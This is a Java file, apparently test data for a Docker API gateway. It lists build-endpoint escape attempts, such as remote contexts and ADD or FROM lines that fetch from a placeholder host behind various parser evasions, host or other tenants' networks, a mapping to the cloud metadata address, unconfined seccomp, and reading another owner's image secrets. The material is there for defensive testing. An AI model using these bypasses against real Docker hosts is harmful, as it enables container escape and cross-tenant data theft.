package dev.cofferdam.gate.escape;

import static dev.cofferdam.gate.escape.Effect.has;

import java.util.ArrayList;
import java.util.List;

/** What a classic build may reach: URLs, networks, groups, tags and labels. */
final class BuildAttacks {
  private static final String GROUP = "build";
  private static final Effect DIALLED = new Effect.Dialled();
  private static final String ADD = "FROM scratch\nADD http://${dial}/x /x\n";
  private static final String PLAIN = "FROM scratch\nENV A=b\n";
  private static final String RUN = "FROM ${image}\nRUN true\n";

  private BuildAttacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    dials(all);
    all.add(
        one(
            "over the host's tag",
            new Effect.Changed("host.image"),
            RawRequest.build("t=${hostImage}", PLAIN)));
    all.add(
        one(
            "over the host's tag, named second",
            new Effect.Changed("host.image"),
            RawRequest.build("t=${name}&t=docker.io/library/${hostImage}:latest", PLAIN)));
    all.add(
        one(
            "another owner by LABEL",
            has("/v1.41/images/${name}/json", "/Config/Labels", "bob"),
            RawRequest.build("t=${name}", "FROM scratch\nLABEL dev.cofferdam.owner=bob\n")));
    all.add(
        one(
            "another owner by query",
            has("/v1.41/images/${name}/json", "/Config/Labels", "bob"),
            RawRequest.build(
                "t=${name}&labels=%7B%22dev.cofferdam.owner%22%3A%22bob%22%7D", PLAIN)));
    all.add(
        one(
            "no owner at all",
            new Effect.Has(
                "/v1.41/images/${name}/json",
                "/Config",
                node -> !node.path("Labels").toString().contains("dev.cofferdam.owner")),
            RawRequest.build("t=${name}", PLAIN)));
    all.add(
        one(
            "on the host's network",
            has("/v1.41/images/${name}/json", "/Id", "sha256"),
            RawRequest.build("t=${name}&networkmode=host", RUN)));
    all.add(
        one(
            "on another's network",
            has("/v1.41/images/${name}/json", "/Id", "sha256"),
            RawRequest.build("t=${name}&networkmode=${victimNetName}", RUN)));
    all.add(
        one(
            "in another's network namespace",
            has("/v1.41/images/${name}/json", "/Id", "sha256"),
            RawRequest.build("t=${name}&networkmode=container:${victim}", RUN)));
    all.add(
        one(
            "in a group of its own choice",
            has("/v1.41/images/${name}/json", "/Id", "sha256"),
            RawRequest.build("t=${name}&cgroupparent=/esc", RUN)));
    all.add(
        one(
            "with hosts of its own",
            has("/v1.41/images/${name}/json", "/Id", "sha256"),
            RawRequest.build("t=${name}&extrahosts=metadata:169.254.169.254", RUN)));
    all.add(
        one(
            "of another's image",
            has("/v1.41/images/${name}/json", "/Config/Env", "ESC_SECRET"),
            RawRequest.build("t=${name}", "FROM ${bobImage}\nENV A=b\n")));
    all.add(
        one(
            "copying from another's image",
            has("/v1.41/images/${name}/json", "/Id", "sha256"),
            RawRequest.build("t=${name}", "FROM scratch\nCOPY --from=${bobImage} /only /only\n")));
    all.add(
        one(
            "with BuildKit and no session",
            has("/v1.41/images/${name}/json", "/Id", "sha256"),
            RawRequest.build("t=${name}&version=2", RUN)));
    all.add(
        one(
            "with a trigger",
            has("/v1.41/images/${name}/json", "/Config/OnBuild", "ADD"),
            RawRequest.build("t=${name}", "FROM scratch\nONBUILD ADD http://${dial}/x /x\n")));
    all.add(
        one(
                "with a security option",
                has("/v1.41/images/${name}/json", "/Id", "sha256"),
                RawRequest.build("t=${name}&securityopt=seccomp%3Dunconfined", RUN))
            .elsewhere());
    return all;
  }

  private static void dials(List<Attack> all) {
    all.add(
        one(
            "remote context",
            DIALLED,
            RawRequest.post("/v1.41/build?remote=http://${dial}/c.tar&t=${name}")));
    all.add(
        one(
            "remote Dockerfile",
            DIALLED,
            RawRequest.post("/v1.41/build?%72emote=http://${dial}/Dockerfile")));
    all.add(
        one(
                "remote repository",
                DIALLED,
                RawRequest.post("/v1.41/build?remote=http://${dial}/r.git"))
            .elsewhere());
    all.add(one("ADD of a URL", DIALLED, RawRequest.build("t=${name}", ADD)));
    all.add(
        one(
            "ADD of a URL in a compressed context",
            DIALLED,
            RawRequest.archive(
                "POST", "/v1.41/build?t=${name}", true, TarFile.file("Dockerfile", ADD))));
    all.add(
        one(
            "add in lower case, over two lines",
            DIALLED,
            RawRequest.build("t=${name}", "FROM scratch\nadd \\\n  http://${dial}/x \\\n /x\n")));
    all.add(
        one(
            "ADD as JSON",
            DIALLED,
            RawRequest.build("t=${name}", "FROM scratch\nADD [\"http://${dial}/x\", \"/x\"]\n")));
    all.add(
        one(
            "ADD of an argument",
            DIALLED,
            RawRequest.build(
                "t=${name}", "FROM scratch\nARG U=http\nARG W=${dial}/x\nADD $U://$W /x\n")));
    all.add(
        one(
            "ADD of an argument from the query",
            DIALLED,
            RawRequest.build(
                "t=${name}&buildargs=%7B%22U%22%3A%22http%3A%2F%2F${dial}%2Fx%22%7D",
                "FROM scratch\nARG U\nADD ${U} /x\n")));
    all.add(
        one(
            "ADD of an environment variable",
            DIALLED,
            RawRequest.build(
                "t=${name}", "FROM scratch\nENV U http://${dial}\nADD ${U:-x}/x /x\n")));
    all.add(
        one(
            "ADD behind another escape character",
            DIALLED,
            RawRequest.build(
                "t=${name}", "# escape=`\nFROM scratch\nADD `\nhttp://${dial}/x /x\n")));
    all.add(
        one(
            "ADD in a Dockerfile of another name",
            DIALLED,
            RawRequest.archive(
                "POST",
                "/v1.41/build?t=${name}&dockerfile=d/other",
                false,
                TarFile.file("Dockerfile", PLAIN),
                TarFile.file("d/other", ADD))));
    all.add(
        one(
            "ADD in the second of two Dockerfiles",
            DIALLED,
            RawRequest.archive(
                "POST",
                "/v1.41/build?t=${name}",
                false,
                TarFile.file("Dockerfile", PLAIN),
                TarFile.file("Dockerfile", ADD))));
    all.add(
        one(
            "ADD in the second of two, with a path before its name",
            DIALLED,
            RawRequest.archive(
                "POST",
                "/v1.41/build?t=${name}",
                false,
                TarFile.file("Dockerfile", PLAIN),
                TarFile.file("./Dockerfile", ADD))));
    all.add(
        one(
            "ADD in a Dockerfile that is a symlink",
            DIALLED,
            RawRequest.archive(
                "POST",
                "/v1.41/build?t=${name}",
                false,
                TarFile.symlink("Dockerfile", "real"),
                TarFile.file("real", ADD))));
    all.add(
        one(
            "ADD in a Dockerfile in lower case",
            DIALLED,
            RawRequest.archive(
                "POST", "/v1.41/build?t=${name}", false, TarFile.file("dockerfile", ADD))));
    all.add(
        one(
            "FROM a registry on loopback",
            DIALLED,
            RawRequest.build("t=${name}", "FROM ${dial}/x:1\nENV A=b\n")));
    all.add(
        one(
            "FROM an argument",
            DIALLED,
            RawRequest.build("t=${name}", "ARG R=${dial}/x:1\nFROM $R\nENV A=b\n")));
    all.add(
        one(
            "COPY from a registry on loopback",
            DIALLED,
            RawRequest.build("t=${name}", "FROM scratch\nCOPY --from=${dial}/x:1 /a /a\n")));
    all.add(
        one(
            "ADD after a trigger of one's own",
            DIALLED,
            RawRequest.build(
                "t=${name}",
                "FROM scratch AS a\nONBUILD ADD http://${dial}/x /x\nFROM a\nENV A=b\n")));
    all.add(
        one(
            "two queries for the Dockerfile",
            DIALLED,
            RawRequest.archive(
                "POST",
                "/v1.41/build?t=${name}&dockerfile=b&dockerfile=a",
                false,
                TarFile.file("a", PLAIN),
                TarFile.file("b", ADD))));
  }

  private static Attack one(String name, Effect effect, RawRequest request) {
    return Attack.of(GROUP, name, effect, request);
  }
}
